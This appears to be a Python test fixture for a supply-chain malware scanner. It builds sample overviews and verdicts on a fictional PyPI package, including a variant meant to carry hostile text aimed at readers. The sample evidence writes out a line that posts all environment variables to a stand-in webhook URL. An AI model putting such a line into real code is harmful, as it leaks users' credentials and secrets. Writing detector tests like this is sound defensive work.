"""Overviews made by hand: an ordinary one, and one in which every text is hostile."""

from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta

from hostile_reports import HOSTILE

from watchhouse.model.evidence import Confidence, Gap, GapReason, Location, Moment, Severity, Sighting
from watchhouse.model.feed import Behind
from watchhouse.model.identity import ArtifactRef, Ecosystem, ProjectName, Sha256
from watchhouse.model.technique import Technique
from watchhouse.model.verdict import Level, Reason, Verdict
from watchhouse.pipeline.overview import FeedStanding, Found, Overview, Queue, Trouble

AT = datetime(2026, 3, 1, 12, 0, 0, tzinfo=UTC)

_CLAIMS = (
    ("exfil-webhook", "sends environment variables to a web hook", Moment.INSTALL),
    ("decoded-exec", "runs code that it decodes first", Moment.IMPORT),
    ("name-lookalike", "has a name that is one letter away from a popular one", Moment.CALL),
)


def verdict(number: int, level: Level, *, hostile: str = "") -> Verdict:
    """A verdict with three reasons and one gap; its texts carry `hostile`."""
    reasons = tuple(
        Reason(
            sighting=Sighting(
                detector=detector,
                claim=claim + hostile,
                location=Location(path=f"setup.py{hostile}", line=7 + place),
                confidence=Confidence.HIGH,
                severity=Severity.CRITICAL,
                techniques=(Technique.EXFILTRATION_WEBHOOK,),
                moment=moment,
                excerpt=f"requests.post(hook, json=dict(os.environ)){hostile}",
                decoded=f"https://discord.com.example/api/webhooks/1/inert{hostile}",
            ),
            weight=6.0 - place,
        )
        for place, (detector, claim, moment) in enumerate(_CLAIMS)
    )
    return Verdict(
        artifact=ArtifactRef(
            ecosystem=Ecosystem.PYPI,
            file=f"colours-helper-1.0.{number}.tar.gz{hostile}",
            name=ProjectName(f"colours-helper{hostile}"),
            version=f"1.0.{number}{hostile}",
        ),
        sha256=Sha256("ab" * 32),
        level=level,
        probability=0.9997 if level is Level.MALICIOUS else 0.6,
        reasons=reasons,
        gaps=(Gap(reason=GapReason.OPAQUE, location=Location(path=f"blob.bin{hostile}"), detail=hostile),),
        rules="r1",
    )


def overview(*, hostile: str = "") -> Overview:
    """An hour of ordinary work; its texts carry `hostile`."""
    levels = (Level.MALICIOUS, Level.SUSPICIOUS, Level.SUSPICIOUS, Level.MALICIOUS)
    return Overview(
        at=AT,
        feeds=(
            FeedStanding(
                name=f"pypi{hostile}",
                behind=Behind(events=3, seconds=12.0),
                polled_at=AT - timedelta(seconds=4),
                moved_at=AT - timedelta(seconds=9),
            ),
            FeedStanding(
                name="npm",
                behind=Behind(events=1200, seconds=1500.0),
                polled_at=AT - timedelta(seconds=2),
                moved_at=AT - timedelta(minutes=2),
            ),
        ),
        arrivals=tuple(10 + (number * 37) % 23 + (30 if number % 17 == 0 else 0) for number in range(60)),
        judgements=tuple(8 + (number * 29) % 19 for number in range(60)),
        queues=(
            Queue(priority=60, count=4, since=AT - timedelta(seconds=3)),
            Queue(priority=30, count=37, since=AT - timedelta(seconds=40)),
        ),
        unlisted=5,
        shards=0,
        levels={Level.CLEAR: 9_120, Level.NOTABLE: 61, Level.SUSPICIOUS: 14, Level.MALICIOUS: 6},
        found=tuple(
            Found(
                publication=number,
                verdict=verdict(number, level, hostile=hostile),
                judged_at=AT - timedelta(minutes=3 * number),
            )
            for number, level in enumerate(levels, start=1)
        ),
        noted=(Found(publication=9, verdict=verdict(9, Level.NOTABLE, hostile=hostile), judged_at=AT),),
        troubles=(
            Trouble(
                key="feed npm late",
                message=f"npm answers with status 429: asked again in 60 seconds{hostile}",
                since=AT - timedelta(minutes=4),
                count=7,
            ),
        ),
        demonstration=False,
    )


def calm() -> Overview:
    """The same with nothing wrong and nothing left to do."""
    return replace(overview(), troubles=(), queues=(), unlisted=0)


def hostile() -> Overview:
    """An hour in which every text is an attack on whoever reads it."""
    return overview(hostile=HOSTILE)


@dataclass(frozen=True, slots=True, kw_only=True)
class Still:
    """A reader of a watch that stands still."""

    shown: Overview
    wrong: str = ""

    def overview(self) -> Overview:
        """What is shown."""
        return self.shown

    def found(self, publication: int) -> Found | None:
        """The verdict of this number among those shown."""
        return next((one for one in self.shown.found if one.publication == publication), None)

    def complaint(self) -> str:
        """What is wrong."""
        return self.wrong
